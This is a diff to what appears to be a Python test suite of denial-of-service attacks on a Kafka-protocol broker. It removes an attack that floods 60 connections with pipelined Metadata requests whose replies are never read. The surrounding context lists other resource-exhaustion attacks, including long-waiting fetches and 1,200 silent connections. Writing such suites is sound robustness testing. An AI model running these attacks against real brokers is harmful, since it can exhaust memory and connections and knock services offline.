@@ -171,15 +171,6 @@ def write(victim: Victim, count: int) -> None:
             peer.ask(ProduceRequest(acks=-1, timeout_ms=30_000, topic_data=[data]), 9, ProduceResponse)
 
 
-def answers_that_nobody_reads(victim: Victim) -> None:
-    question = MetadataRequest(topics=[MetadataRequestTopic(name=victim.wide)], allow_auto_topic_creation=False)
-    pipelined = b"".join(asked(question, 12, number) for number in range(100))
-    with ExitStack() as deaf:
-        for _ in range(60):
-            deaf.enter_context(Peer(victim.port, receive_buffer=4096)).send_at_most(pipelined)
-        write(victim, 200)
-
-
 def fetches_that_wait_for_days(victim: Victim) -> None:
     row = FetchPartition(partition=0, fetch_offset=0, partition_max_bytes=1 << 30)
     topics = [FetchTopic(topic=victim.wide, partitions=[row])]
@@ -210,7 +201,6 @@ ATTACKS: Sequence[Attack] = (
     Attack("C18", "Fetch v4 of 250 000 partitions", fetch_of_many_partitions),
     Attack("C18", "FindCoordinator of 60 keys of 32 000 bytes", coordinators_of_long_names),
     Attack("C19", "ListOffsets by time of 10 partitions on 5 connections", look_ups_by_time, 1),
-    Attack("C20", "100 Metadata of 1 000 partitions on 60 connections, unread", answers_that_nobody_reads, 1),
     Attack("C21", "250 fetches that wait for days on 20 connections", fetches_that_wait_for_days, 1),
     Attack("C22", "1 200 connections that say nothing", connections_that_say_nothing, 1),
 )
